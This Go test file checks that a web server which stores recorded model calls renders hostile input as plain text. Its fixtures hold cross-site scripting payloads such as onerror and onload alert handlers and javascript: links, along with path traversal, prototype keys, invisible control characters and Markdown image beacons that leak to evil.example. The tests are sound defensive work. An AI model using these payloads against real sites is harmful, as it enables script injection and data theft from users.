package server_test

import (
	"encoding/json"
	"encoding/xml"
	"errors"
	"io"
	"net/http"
	"strings"
	"testing"
	"unicode"

	"github.com/tapedeck-dev/tapedeck/internal/server/htmlcheck"
)

// hostile returns text that would show up as an element x-mark, as an attribute
// x-mark, or as code, if any page took it for more than text. It has the
// characters of security A4, cases 26, 29 and 31, too.
func hostile(field string) string {
	return `</title></textarea></script></style></noscript>]]>--><x-mark>` + field + `</x-mark><img src=x onerror=alert(1)>` +
		`<svg onload=alert(1)>" x-mark="1' x-mark='1` + "` x-mark=`1" + ` onclick="alert(1)" {{.}} ${1} $\href{x"><animate onbegin=alert(1)>}{z}$` +
		"\u202e\u2066\u200b\x1b[31m\x07\u2028"
}

// hostileLine returns a recording with hostile text in every field.
func hostileLine(t *testing.T, id string) string {
	t.Helper()
	object := func(members ...string) string {
		var b strings.Builder
		for i := 0; i+1 < len(members); i += 2 {
			b.WriteString(map[bool]string{true: "{", false: ","}[i == 0] + quoted(t, members[i]) + ":" + members[i+1])
		}
		return b.String() + "}"
	}
	text := func(field string) string { return quoted(t, hostile(field)) }
	return object("id", text(id), "input", text("input"), "output", text("output"), "modelCalls", "2", "tokens", "9", "latencyMs", "9",
		hostile("unknown field"), text("unknown value"),
		"toolCalls", "["+object("name", text("tool"),
			"arguments", object(hostile("argument"), text("value"), "__proto__", object("constructor", text("deep")), "a.b", "1"),
			"result", object(hostile("key of the result"), text("result")))+"]")
}

func quoted(t *testing.T, text string) string {
	t.Helper()
	var out strings.Builder
	e := json.NewEncoder(&out)
	e.SetEscapeHTML(false)
	if err := e.Encode(text); err != nil {
		t.Fatal(err)
	}
	return strings.TrimSpace(out.String())
}

// wantOnlyText fails the test if hostile text became anything else on the page.
func wantOnlyText(t *testing.T, path string, d *htmlcheck.Document) {
	t.Helper()
	d.Lacks("x-mark", "[x-mark]", "img", "animate", "svg[onload]", "[onclick]", "main script", "iframe", "object", "embed", "base", "link[href=x]")
	if n := d.Count("script"); n != 1 {
		t.Errorf("%s has %d scripts, want its own alone", path, n)
	}
	for _, attribute := range []string{"title", "aria-label", "href"} {
		for _, value := range d.Attrs("["+attribute+"]", attribute) {
			wantVisible(t, path+", attribute "+attribute, value)
		}
	}
	wantVisible(t, path+", title", d.Text("title"))
}

// wantVisible fails the test if a text has characters that cannot be seen but
// change what is seen.
func wantVisible(t *testing.T, where, text string) {
	t.Helper()
	for _, r := range text {
		if r != '\n' && r != '\t' && (unicode.IsControl(r) || unicode.Is(unicode.Cf, r) || r == '\u2028') {
			t.Errorf("%s has the character %U: %.100q", where, r, text)
			return
		}
	}
}

// Security A4, case 26: hostile text in every field stays text on every page, in
// every report, and in no address.
func TestHostileTextStaysText(t *testing.T) {
	t.Parallel()
	s := newSite(t, nil)
	lines := []string{hostileLine(t, "id 1"), hostileLine(t, "id 2"), `{"id":"../../x","input":"..\\..\\x"}`}
	// A browser sends the last part of a path, with quotes and controls escaped.
	name := strings.NewReplacer("/", "|", "\x1b", "", "\a", "", `"`, "", `\`, "").Replace(hostile("file"))
	upload := s.uploaded(name, lines...)
	again := strings.Replace(strings.Replace(lines[0], "value", "another value", 1), "output", "another output", 3)
	changed := s.uploaded("candidate.jsonl", again, lines[1])
	form := with(runForm(upload), "name", string([]rune(hostile("run"))[:200]))

	form["bind"] = s.page("/runs/new?upload="+upload).Attrs("input[name=bind]", "value")
	form.Set("evaluators", "reply-contains:"+strings.ReplaceAll(hostile("evaluator"), "\n", " "))
	s.finished(form)
	s.finished(with(with(form, "target", "recorded"), "candidate", changed))

	shown := map[string]bool{}
	for _, v := range s.visits() {
		a := s.get(v.path)
		media, _, _ := strings.Cut(a.header.Get("Content-Type"), ";")
		switch {
		case a.status != http.StatusOK || v.route == "/static/*path":
		case media == "text/html":
			wantOnlyText(t, v.path, a.page())
			if v.route != "/runs/new" { // whose boxes send tools by their exact names
				wantVisible(t, v.path, string(a.body))
			}
		case media == "application/json":
			if !json.Valid(a.body) {
				t.Errorf("%s is no JSON", v.path)
			}
		case media == "application/xml":
			wantXML(t, v.path, string(a.body))
		default:
			wantVisible(t, v.path, string(a.body))
		}
		for _, field := range []string{"id 1", "input", "output", "tool", "argument", "value", "result", "key of the result", "unknown field", "file", "run", "evaluator"} {
			if strings.Contains(string(a.body), "&lt;x-mark&gt;"+field+"&lt;") {
				shown[field] = true
			}
		}
	}
	if len(shown) != 12 {
		t.Errorf("as text are shown only %v", shown)
	}
	for name, a := range map[string]*answer{
		"the refused form": s.post("/runs", with(with(form, "repeat", hostile("repeat")), "gate", hostile("gate")).Encode()).wants(http.StatusUnprocessableEntity),
		"the refused file": s.send(file{name: "<x-mark>.jsonl", body: `{"input":"a","tokens":"<x-mark>"}` + "\n" + `{"input":"<x-mark>","<x-mark>":1,"<x-mark>":2}`}).wants(http.StatusUnprocessableEntity),
		"a lost address":   s.get("/runs/%3Cx-mark%3E?%22%3E%3Cx-mark%3E=1").wants(http.StatusNotFound),
	} {
		wantOnlyText(t, name, a.page())
	}
}

func wantXML(t *testing.T, path, body string) {
	t.Helper()
	for d := xml.NewDecoder(strings.NewReader(body)); ; {
		token, err := d.Token()
		if errors.Is(err, io.EOF) {
			return
		}
		if err != nil {
			t.Errorf("%s is no XML: %v", path, err)
			return
		}
		if e, ok := token.(xml.StartElement); ok && e.Name.Local == "x-mark" {
			t.Errorf("%s has hostile text as an element", path)
		}
	}
}

// Security A4, cases 27 to 29, through the whole way to the page: no link that
// runs, no image, no markup of its own.
func TestHostileMarkdown(t *testing.T) {
	t.Parallel()
	s := newSite(t, nil)
	reply := strings.Join([]string{
		"# Title", "[a](javascript:alert(1)) [b](javascript&colon;alert(1)) [c](https://a.example/?q=1)",
		"![beacon](http://evil.example/?leak=1) ![](//evil.example/x) <picture><source srcset=//evil.example/y></picture>",
		"<script>alert(1)</script> <x-mark>m</x-mark> <a href=javascript:alert(1) onclick=alert(1)>x</a>",
		"<div style=\"background:url(//evil.example/z)\">styled</div>", `$\href{x"><animate onbegin=alert(1)>}{z}$`,
	}, "\n\n")
	upload := s.uploaded("captures.jsonl", `{"input":"x","output":`+quoted(t, reply)+`}`)
	run := s.finished(runForm(upload))
	a := s.get("/runs/" + run.ID + "/cases/1?view=markdown").wants(http.StatusOK)
	d := a.page()
	wantOnlyText(t, "the reply as Markdown", d)
	d.Lacks(".md img", ".md picture", ".md source", ".md div", ".md h1")
	if links := d.Attrs(".md a", "href"); len(links) != 1 || links[0] != "https://a.example/?q=1" {
		t.Errorf("links of the reply = %q, want the one to a.example", links)
	}
	wantText(t, d, ".md h3", "Title")
	if got := d.Text(".md"); !strings.Contains(got, "[image: beacon]") || !strings.Contains(got, `$\href{x">`) {
		t.Errorf("the reply reads %q, want its images named and its formula as text", got)
	}
	_, md, _ := strings.Cut(string(a.body), `<div class="md">`)
	md, _, _ = strings.Cut(md, "</section>")
	if strings.Contains(md, "evil.example") && strings.Contains(md, "=\"//evil") {
		t.Errorf("the reply loads from elsewhere: %s", md)
	}
}
